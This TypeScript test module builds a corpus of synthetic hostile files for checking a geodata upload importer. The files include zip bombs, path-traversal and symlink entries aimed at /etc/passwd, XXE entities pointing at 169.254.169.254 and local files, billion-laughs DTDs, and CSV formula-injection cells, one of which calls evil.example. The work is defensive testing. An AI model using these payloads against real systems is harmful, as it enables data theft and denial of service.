/**
 * The hostile-files corpus of issue 10 §4, written into a directory: every file is SYNTHETIC — a
 * hostile variant of a real fixture (tests/fixtures/formats, made by GDAL; the KLIC delivery of
 * data/klic-maasgouw) or written from scratch — and named for what it is. Each case says what the
 * import path must do with it: 'rejected' (with a reason matching `reason`), 'succeeded', or
 * 'either'; every case must end one way or the other, with a reason, without crash, hang or fetch.
 * Zip, XML and JSON cases are here; geometry, GeoPackage and Shapefile cases in
 * hostile-corpus-geo.ts.
 */
import { deflateRawSync } from 'node:zlib';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { Zip, ZipDeflate, strToU8, unzipSync, zipSync } from 'fflate';
import { geoCases } from './hostile-corpus-geo.ts';

export const ROOT = path.resolve(import.meta.dirname, '..', '..');
export const FIXTURES = path.join(ROOT, 'tests', 'fixtures', 'formats');
export const KLIC_SEED = path.join(ROOT, 'data', 'klic-maasgouw', 'Levering_22O000518_1.zip');

export type Expect = 'rejected' | 'succeeded' | 'either';

/** What the run checks beyond the outcome. */
export type Extra =
  /** after loading, the layer's CSV export must hold every formula cell neutralised */
  | { kind: 'csv-formula'; marker: string; labelField: string }
  /** the analysis (and the load report) must name at least `min` invalid geometries */
  | { kind: 'invalid'; min: number };

export interface HostileCase {
  /** the file's name as uploaded (names what it is) */
  name: string;
  file: string;
  what: string;
  expect: Expect;
  /** the rejection's code or message must match */
  reason?: RegExp;
  /** extra query string of the upload, e.g. 'epsg=999999' */
  query?: string;
  extra?: Extra;
}

export type Write = (name: string, bytes: Uint8Array | string) => Promise<string>;

/** A zip of one `mb` MiB entry of zeros, deflated as it streams (never the whole entry in memory). */
function flatBomb(entryName: string, mb: number): Uint8Array {
  const chunks: Uint8Array[] = [];
  const zip = new Zip((err, data) => {
    if (err) throw err;
    chunks.push(data);
  });
  const entry = new ZipDeflate(entryName, { level: 1 });
  zip.add(entry);
  const block = new Uint8Array(1024 * 1024);
  for (let i = 0; i < mb; i++) entry.push(block, false);
  entry.push(new Uint8Array(0), true);
  zip.end();
  return Buffer.concat(chunks);
}

/**
 * A non-recursive "overlapping" bomb (after D. Fifield, "A better zip bomb"): one deflated kernel
 * in the file, and `n` central-directory entries that all point at it, each declaring the full size.
 */
function overlappingBomb(n: number, kernelMb: number): Uint8Array {
  const raw = Buffer.alloc(kernelMb * 1024 * 1024, 0x20);
  const data = deflateRawSync(raw, { level: 9 });
  const name = Buffer.from('kern.geojson');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(0, 14); // crc (left 0: the central directory lies anyway)
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(raw.length, 22);
  local.writeUInt16LE(name.length, 26);
  const centrals: Buffer[] = [];
  for (let i = 0; i < n; i++) {
    const cname = Buffer.from(`laag${i}.geojson`);
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(20, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(8, 10);
    c.writeUInt32LE(data.length, 20);
    c.writeUInt32LE(raw.length, 24);
    c.writeUInt16LE(cname.length, 28);
    c.writeUInt32LE(0, 42); // every entry at offset 0: the same kernel
    centrals.push(c, cname);
  }
  const cd = Buffer.concat(centrals);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(n, 8);
  eocd.writeUInt16LE(n, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(30 + name.length + data.length, 16);
  return Buffer.concat([local, name, data, cd, eocd]);
}

/** 42.zip in small: `depth` levels of zips, each holding `width` copies of the level below. */
function nestedBomb(depth: number, width: number): Uint8Array {
  let inner: Uint8Array = zipSync({ 'laag.geojson': new Uint8Array(4 * 1024 * 1024).fill(0x20) }, { level: 9 });
  for (let d = 0; d < depth; d++) {
    const files: Record<string, Uint8Array> = {};
    for (let i = 0; i < width; i++) files[`deel${d}-${i}.zip`] = inner;
    inner = zipSync(files, { level: 9 });
  }
  return inner;
}

const UNIX_SYMLINK = { os: 3, attrs: (0o120777 << 16) >>> 0 };

async function zipCases(write: Write): Promise<HostileCase[]> {
  const shp = await readFile(path.join(FIXTURES, 'bomen.shp.zip'));
  const klic = await readFile(KLIC_SEED);
  const fc = strToU8('{"type":"FeatureCollection","features":[]}');
  return [
    { name: 'truncated-60pct-shapefile.zip', file: await write('truncated-60pct-shapefile.zip', shp.subarray(0, Math.floor(shp.length * 0.6))),
      what: 'the first 60 % of a zipped Shapefile', expect: 'rejected', reason: /zip/i },
    { name: 'truncated-50pct-klic.zip', file: await write('truncated-50pct-klic.zip', klic.subarray(0, Math.floor(klic.length * 0.5))),
      what: 'the first half of a KLIC delivery', expect: 'rejected', reason: /zip/i },
    { name: 'truncated-22-bytes.zip', file: await write('truncated-22-bytes.zip', shp.subarray(0, 22)), what: 'a zip cut after 22 bytes', expect: 'rejected' },
    { name: 'zip-bomb-flat-200mb.zip', file: await write('zip-bomb-flat-200mb.zip', flatBomb('bom.geojson', 200)),
      what: 'one entry of 200 MB of zeros', expect: 'rejected', reason: /bomb|too_large|inflate/i },
    { name: 'zip-bomb-overlapping-1000x4mb.zip', file: await write('zip-bomb-overlapping-1000x4mb.zip', overlappingBomb(1000, 4)),
      what: '1,000 central-directory entries over one 4 MB kernel (4 GB declared)', expect: 'rejected' },
    { name: 'zip-bomb-nested-4-deep.zip', file: await write('zip-bomb-nested-4-deep.zip', nestedBomb(4, 8)),
      what: 'zips in zips, 4 levels of 8', expect: 'rejected' },
    { name: 'zip-path-traversal.zip', file: await write('zip-path-traversal.zip', zipSync({ '../../../tmp/samenhang-evil.geojson': fc })),
      what: 'an entry named ../../../tmp/…', expect: 'rejected', reason: /unsafe/i },
    { name: 'zip-absolute-path.zip', file: await write('zip-absolute-path.zip', zipSync({ '/tmp/samenhang-evil.geojson': fc })),
      what: 'an entry with an absolute name', expect: 'rejected', reason: /unsafe/i },
    { name: 'zip-symlink-to-etc-passwd.zip', file: await write('zip-symlink-to-etc-passwd.zip', zipSync({ 'data.geojson': [strToU8('/etc/passwd'), UNIX_SYMLINK] })),
      what: 'a symbolic link entry pointing at /etc/passwd', expect: 'rejected', reason: /symbolic|unsafe/i },
    { name: 'zip-symlink-shp-dir.zip', file: await write('zip-symlink-shp-dir.zip', zipSync({ ...unzipSync(shp), 'bomen.dbf': [strToU8('/proc/self/environ'), UNIX_SYMLINK] })),
      what: 'a Shapefile whose .dbf is a symlink to /proc/self/environ', expect: 'rejected', reason: /symbolic|unsafe/i },
    { name: 'zip-2000-entries.zip', file: await write('zip-2000-entries.zip', zipSync(Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`f${i}.txt`, strToU8('x')])))),
      what: '2,000 entries (over the 1,000 limit)', expect: 'rejected' },
    { name: 'zip-empty-archive.zip', file: await write('zip-empty-archive.zip', zipSync({})), what: 'a zip with no entries', expect: 'rejected' },
    { name: 'zip-random-bytes.zip', file: await write('zip-random-bytes.zip', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) & 0xff))),
      what: 'bytes that are not a zip', expect: 'rejected' },
    { name: 'zip-klic-and-shapefile.zip', file: await write('zip-klic-and-shapefile.zip', zipSync({ ...unzipSync(shp), ...unzipSync(klic) })),
      what: 'a KLIC delivery with a Shapefile beside it', expect: 'either' },
  ];
}

const XXE_DTD = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/"><!ENTITY pwd SYSTEM "file:///etc/passwd">]>';
const LAUGHS_DTD = `<!DOCTYPE r [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i ? i : ''};`.repeat(10)}">`).join('')}]>`;

/** The real KLIC GML with a DTD put before its root element and an entity used in its first text. */
function withDoctype(gml: string, dtd: string, entity: string): string {
  const root = gml.indexOf('<', gml.startsWith('<?xml') ? gml.indexOf('?>') + 2 : 0);
  const text = gml.indexOf('</', root);
  return `${gml.slice(0, root)}${dtd}\n${gml.slice(root, text)}&${entity};${gml.slice(text)}`;
}

async function xmlCases(write: Write): Promise<HostileCase[]> {
  const klic = unzipSync(await readFile(KLIC_SEED));
  const [entry, bytes] = Object.entries(klic)[0] as [string, Uint8Array];
  const gml = Buffer.from(bytes).toString('utf8');
  const kml = await readFile(path.join(FIXTURES, 'bomen.kml'), 'utf8');
  const kmlWith = (dtd: string, entity: string): string => withDoctype(kml, dtd.replace('<!DOCTYPE r', '<!DOCTYPE kml'), entity);
  const gmlZip = (dtd: string, e: string): Uint8Array => zipSync({ [entry]: strToU8(withDoctype(gml, dtd.replace('<!DOCTYPE r', '<!DOCTYPE gml'), e)) });
  return [
    { name: 'klic-gml-xxe-http.zip', file: await write('klic-gml-xxe-http.zip', gmlZip(XXE_DTD, 'xxe')),
      what: 'KLIC GML with an external entity to http://169.254.169.254/', expect: 'either' },
    { name: 'klic-gml-xxe-file.zip', file: await write('klic-gml-xxe-file.zip', gmlZip(XXE_DTD, 'pwd')),
      what: 'KLIC GML with an external entity to file:///etc/passwd', expect: 'either' },
    { name: 'klic-gml-billion-laughs.zip', file: await write('klic-gml-billion-laughs.zip', gmlZip(LAUGHS_DTD, 'lol9')),
      what: 'KLIC GML with a billion-laughs entity', expect: 'either' },
    { name: 'kml-xxe-http.kml', file: await write('kml-xxe-http.kml', kmlWith(XXE_DTD, 'xxe')), what: 'KML with an external entity to http://169.254.169.254/', expect: 'either' },
    { name: 'kml-billion-laughs.kml', file: await write('kml-billion-laughs.kml', kmlWith(LAUGHS_DTD, 'lol9')), what: 'KML with a billion-laughs entity', expect: 'either' },
    { name: 'kml-truncated.kml', file: await write('kml-truncated.kml', kml.slice(0, Math.floor(kml.length / 2))), what: 'half a KML document', expect: 'either' },
    { name: 'kml-10000-deep.kml', file: await write('kml-10000-deep.kml', `<kml>${'<Folder>'.repeat(10_000)}${'</Folder>'.repeat(10_000)}</kml>`),
      what: '10,000 nested Folders', expect: 'rejected' },
  ];
}

const fcOf = (features: string, crs = 28992): string =>
  `{"type":"FeatureCollection","crs":{"type":"name","properties":{"name":"urn:ogc:def:crs:EPSG::${crs}"}},"features":[${features}]}`;
const pointAt = (x: string, y: string, id = 1): string => `{"type":"Feature","properties":{"id":${id}},"geometry":{"type":"Point","coordinates":[${x},${y}]}}`;

async function jsonCases(write: Write): Promise<HostileCase[]> {
  const ok = pointAt('155000', '463000', 2);
  return [
    { name: 'geojson-nan-coordinate.geojson', file: await write('geojson-nan-coordinate.geojson', fcOf(`${pointAt('NaN', '463000')},${ok}`)),
      what: 'a bare NaN as a coordinate (not JSON)', expect: 'rejected' },
    { name: 'geojson-1e309-coordinate.geojson', file: await write('geojson-1e309-coordinate.geojson', fcOf(`${pointAt('1e309', '463000')},${ok}`)),
      what: 'a coordinate of 1e309 (Infinity once parsed)', expect: 'either' },
    { name: 'geojson-100000-deep-properties.geojson',
      file: await write('geojson-100000-deep-properties.geojson', fcOf(`{"type":"Feature","properties":{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}},"geometry":null}`)),
      what: 'properties nested 100,000 deep', expect: 'rejected', reason: /deep|nest/i },
    { name: 'geojson-100000-deep-coordinates.geojson',
      file: await write('geojson-100000-deep-coordinates.geojson', fcOf(`{"type":"Feature","properties":{},"geometry":{"type":"Polygon","coordinates":${'['.repeat(100_000)}${']'.repeat(100_000)}}}`)),
      what: 'coordinates nested 100,000 deep', expect: 'rejected', reason: /deep|nest/i },
    { name: 'geojson-srid-999999.geojson', file: await write('geojson-srid-999999.geojson', fcOf(ok, 999999)), what: 'a crs member naming EPSG:999999', expect: 'rejected', reason: /999999/ },
    { name: 'geojson-epsg-option-999999.geojson', file: await write('geojson-epsg-option-999999.geojson', fcOf(ok)), query: 'epsg=999999',
      what: 'an upload stating ?epsg=999999', expect: 'rejected', reason: /999999/ },
    { name: 'geojson-not-json.geojson', file: await write('geojson-not-json.geojson', '{"type":"FeatureCollection","features":[{"type":'), what: 'JSON cut short', expect: 'rejected' },
    { name: 'geojson-nul-in-properties.geojson',
      file: await write('geojson-nul-in-properties.geojson', fcOf(`{"type":"Feature","properties":{"naam":"a\\u0000b","sle\\u0000tel":1},"geometry":{"type":"Point","coordinates":[155000,463000]}}`)),
      what: 'a NUL character in a property value and in a property name', expect: 'either' },
    { name: 'geojson-1mb-property-name.geojson', file: await write('geojson-1mb-property-name.geojson', fcOf(`{"type":"Feature","properties":{"${'k'.repeat(1_000_000)}":1},"geometry":{"type":"Point","coordinates":[155000,463000]}}`)),
      what: 'a 1 MB property name', expect: 'either' },
  ];
}

async function csvCases(write: Write): Promise<HostileCase[]> {
  const marker = 'SAMENHANG-CHAOS';
  const rows = [
    'X;Y;NAAM;OPMERKING',
    `155000;463000;=HYPERLINK("http://evil.example/?${marker}","klik");=1+2`,
    `155010;463010;+SUM(A1:A9)+${marker};@SUM(1)`,
    `155020;463020;-2+3+cmd|' /C calc'!A0 ${marker};\tTAB`,
    `155030;463030;@${marker}();gewoon`,
  ];
  return [
    { name: 'csv-formula-cells.csv', file: await write('csv-formula-cells.csv', `${rows.join('\r\n')}\r\n`),
      what: 'cells starting with =, +, - and @ (spreadsheet formulas)', expect: 'succeeded', extra: { kind: 'csv-formula', marker, labelField: 'NAAM' } },
    { name: 'csv-nul-bytes.csv', file: await write('csv-nul-bytes.csv', 'X;Y;NA\0AM\n155000;463000;a\0b\n'), what: 'NUL bytes in a CSV header and cell', expect: 'either' },
    { name: 'csv-100000-columns.csv', file: await write('csv-100000-columns.csv', `X;Y;${Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(';')}\n155000;463000\n`),
      what: 'a header of 100,000 columns', expect: 'either' },
    { name: 'csv-unterminated-quote.csv', file: await write('csv-unterminated-quote.csv', `X;Y;NAAM\n155000;463000;"open${' x'.repeat(100_000)}\n`),
      what: 'a quote that never closes', expect: 'either' },
  ];
}

/** Write the whole corpus into `dir`; returns one case per file, in a stable order. */
export async function buildCorpus(dir: string): Promise<HostileCase[]> {
  const write: Write = async (name, bytes) => {
    const file = path.join(dir, name);
    await writeFile(file, bytes);
    return file;
  };
  return [...(await zipCases(write)), ...(await xmlCases(write)), ...(await jsonCases(write)), ...(await csvCases(write)), ...(await geoCases(write))];
}
